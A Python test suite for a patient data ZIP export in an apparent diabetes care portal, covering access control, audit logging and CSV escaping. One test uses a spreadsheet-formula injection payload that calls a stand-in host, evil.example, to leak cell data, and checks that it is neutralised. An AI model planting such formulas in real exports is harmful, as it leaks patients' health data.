"""All that is kept of a patient as a file: for whoever may see the patient, with a line in the audit trail."""

import csv
import io
import json
import zipfile

from islet.model.alerts import Severity
from islet.model.codec import encode_event
from islet.model.events import Meal
from islet.model.people import Patient, Role
from islet.model.time import from_us
from islet.model.topics import Topic
from tests.web.portal import Site

PATH = "/patients/p-1/export.zip"


async def test_whoever_may_see_the_patient_takes_all_of_it_along(site: Site) -> None:
    site.add_readings("p-1", [100, 39, 401.5])
    site.add_readings("p-2", [222])
    meal = Meal(time=from_us(site.now_us), carbs_g=45, text="米饭")
    site.add_document(Topic.CARE_EVENTS, "p-1", "meal", encode_event(meal).decode())
    site.open_alert("urgent_low", "p-1", Severity.URGENT)
    site.add_user("ada", Role.PATIENT, "p-1")
    for user in ("ada", "nurse", "admin"):
        client = site.client(user)
        assert PATH in (await client.get("/patients/p-1")).text
        answer = await client.get(PATH)
        assert (answer.status_code, answer.headers["content-type"]) == (200, "application/zip")
        assert 'filename="p-1.zip"' in answer.headers["content-disposition"]
        archive = zipfile.ZipFile(io.BytesIO(answer.content))
        events = [json.loads(line) for line in archive.read("events.jsonl").splitlines()]
        assert [(one["type"], one["device"]) for one in events] == [("reading", "cgm-p-1")] * 3 + [("meal", "device-1")]
        assert [one.get("range", "within") for one in events[:3]] == ["within", "below", "above"]
        assert events[3]["text"] == "米饭"
        about = json.loads(archive.read("about.json"))
        assert about["patient"]["label"] == "Ada Example" and about["followed_by"] == ["ada", "nurse"]
        assert [one["rule"] for one in about["alerts"]] == ["urgent_low"]
        assert "222" not in archive.read("readings.csv").decode()
    told = [(line.action, line.id, line.by) for line in site.registry.audit() if line.action == "exported"]
    assert told == [("exported", "p-1", user) for user in ("ada", "nurse", "admin")]


async def test_nobody_else_does(site: Site) -> None:
    site.add_user("other", Role.PATIENT, "p-2")
    site.add_user("asked", Role.CARE_PARTNER, "p-1", consents=False)
    site.add_user("researcher", Role.RESEARCHER, "*")
    for user in ("other", "asked", "researcher"):
        assert (await site.client(user).get(PATH)).status_code == 403
    assert (await site.client().get(PATH)).status_code == 303
    assert (await site.client("admin").get("/patients/p-9/export.zip")).status_code == 404


async def test_a_patient_of_whom_nothing_has_come_has_a_file_too(site: Site) -> None:
    answer = await site.client("nurse").get(PATH)
    archive = zipfile.ZipFile(io.BytesIO(answer.content))
    assert archive.read("events.jsonl") == b""
    assert archive.read("readings.csv") == b"time,value,unit,range,method,device\r\n"


async def test_a_device_is_no_formula_of_a_spreadsheet(site: Site) -> None:
    site.add_readings("p-1", [100], device='=HYPERLINK("http://evil.example/?"&A2)')
    archive = zipfile.ZipFile(io.BytesIO((await site.client("nurse").get(PATH)).content))
    (row,) = csv.DictReader(io.StringIO(archive.read("readings.csv").decode(), newline=""))
    assert row["device"].startswith("'=HYPERLINK")
    assert json.loads(archive.read("events.jsonl"))["device"].startswith("=HYPERLINK")  # as it came


async def test_who_has_the_patient_as_one_of_a_group_is_told_too(site: Site) -> None:
    site.registry.put_patient(Patient(id="p-1", tags=("ward-3",)))
    site.add_user("kim", Role.CLINICIAN, "group/ward-3")
    site.add_user("lee", Role.CLINICIAN, "group/ward-4")
    archive = zipfile.ZipFile(io.BytesIO((await site.client("kim").get(PATH)).content))
    assert json.loads(archive.read("about.json"))["followed_by"] == ["kim", "nurse"]
